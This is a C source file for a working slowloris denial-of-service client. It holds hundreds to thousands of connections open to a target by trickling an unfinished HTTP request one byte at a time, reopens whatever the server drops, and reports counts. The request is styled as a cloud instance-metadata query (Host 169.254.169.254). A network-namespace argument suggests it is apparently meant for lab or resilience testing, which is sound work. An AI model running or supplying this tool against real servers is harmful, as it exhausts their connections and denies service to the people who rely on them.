/*
 * A client that opens connections and says a byte now and then, so that a server keeps waiting for the end of a
 * request.
 *
 *   slowloris NETNS ADDRESS PORT [connections=500] [interval=0.5]
 *
 * Until SIGTERM or SIGINT; what the server closes is opened again. interval: seconds between two bytes of a connection.
 * Prints {"opened": N, "refused": N, "closed": N, "most": N}: begun, not accepted, closed by the server, open at a
 * time.
 */
#define _GNU_SOURCE
#include <errno.h>
#include <inttypes.h>
#include <signal.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>
#include <time.h>
#include <unistd.h>

#include "connect.h"

enum { CONNECTIONS = 4096 };

static const char beginning[] = "GET /latest/meta-data/ HTTP/1.1\r\nHost: 169.254.169.254\r\nX-Slow: ";
static struct {
	int fd;
	uint32_t sent;
	bool open;
} connections[CONNECTIONS];
static uint64_t opened, refused, closed;
static uint32_t open_now, most;
static volatile sig_atomic_t stopping;

static void on_signal(int signal_number)
{
	(void)signal_number;
	stopping = 1;
}

static void lose(uint32_t i)
{
	if (connections[i].open)
		open_now--;
	*(connections[i].open ? &closed : &refused) += 1;
	close(connections[i].fd);
	connections[i].fd = -1;
}

static void dial(uint32_t i, int netns, const struct target *target)
{
	connections[i].fd = connect_from(netns, target);
	connections[i].sent = 0;
	connections[i].open = false;
	opened++;
	refused += connections[i].fd < 0;
}

/* One byte more; the name of the field comes to its end, its value never. */
static void trickle(uint32_t i)
{
	char byte = connections[i].sent < sizeof(beginning) - 1 ? beginning[connections[i].sent] : 'x', answer[256];

	if (send(connections[i].fd, &byte, 1, MSG_NOSIGNAL) == 1) {
		if (!connections[i].open && ++open_now > most)
			most = open_now;
		connections[i].open = true;
		connections[i].sent++;
	} else if (errno != EAGAIN && errno != ENOTCONN && errno != EINPROGRESS) {
		return lose(i);
	}
	ssize_t got = recv(connections[i].fd, answer, sizeof(answer), 0);
	if (got == 0 || (got < 0 && errno != EAGAIN && errno != ENOTCONN))
		lose(i);
}

int main(int count, char **arguments)
{
	struct sigaction action = {.sa_handler = on_signal};
	struct target target;
	uint32_t wanted = 500;
	double interval = 0.5;

	sigaction(SIGTERM, &action, NULL);
	sigaction(SIGINT, &action, NULL);
	if (count < 4)
		return fprintf(stderr, "usage: slowloris NETNS ADDRESS PORT [OPTION=VALUE ...]\n"), 2;
	for (int i = 4; i < count; i++) {
		if (sscanf(arguments[i], "connections=%u", &wanted) != 1 &&
		        sscanf(arguments[i], "interval=%lf", &interval) != 1)
			return fprintf(stderr, "error: %s: no such option\n", arguments[i]), 2;
	}
	int netns = connect_namespace(arguments[1]);
	if (netns < 0 || wanted == 0 || wanted > CONNECTIONS || interval <= 0 ||
	        !connect_target(&target, arguments[2], arguments[3]))
		return 1;
	for (uint32_t i = 0; i < wanted; i++)
		connections[i].fd = -1;
	/* All in turn, spread over the interval. */
	struct timespec pause = {.tv_sec = (time_t)(interval / wanted),
	        .tv_nsec = (long)((interval / wanted - (double)(time_t)(interval / wanted)) * 1e9)};
	for (uint32_t i = 0; !stopping; i = (i + 1) % wanted) {
		if (connections[i].fd < 0)
			dial(i, netns, &target);
		else
			trickle(i);
		nanosleep(&pause, NULL);
	}
	printf("{\"opened\": %" PRIu64 ", \"refused\": %" PRIu64 ", \"closed\": %" PRIu64 ", \"most\": %u}\n", opened,
	        refused, closed, most);
	return 0;
}
